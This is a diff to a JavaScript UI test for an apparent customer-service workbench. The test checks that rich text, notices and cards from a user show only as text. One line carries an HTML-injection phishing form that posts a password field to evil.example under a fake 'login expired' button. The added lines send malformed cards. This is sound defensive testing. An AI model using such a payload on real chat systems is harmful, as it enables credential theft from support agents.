@@ -115,7 +115,12 @@ t.test('serving several users from the workbench', async (t) => {
   // A user cannot draw on the agent's screen: rich text, notices and cards from a user are shown as their text.
   await u1.request('message.send', { to: CS, random: 3, body: srcBody('30', { content: '<form action="https://evil.example/"><input type="password" name="p"><button>登录已过期</button></form>' }) });
   await u1.request('message.send', { to: CS, random: 4, body: srcBody('19') });
+  await u1.request('message.send', { to: CS, random: 6, body: srcBody('28', { content: { customField: 'x' } }) });
+  await u1.request('message.send', { to: CS, random: 7, body: srcBody('33', { content: { inputVariables: [null, 'x', { name: '电话', variableValue: '123' }] } }) });
   await pane1.getByText(/evil\.example/).waitFor();
+  await pane1.getByText(/"src":"19"/).waitFor();
+  await pane1.getByText('电话').waitFor();
+  t.pass('malformed cards from a user do not stop the workbench');
   t.equal(await pane1.locator('.messages form, .messages input').count(), 0, 'no form or input from a user');
   t.equal(await pane1.getByText('会话已结束').count(), 0, 'no fake "session ended" notice');
 
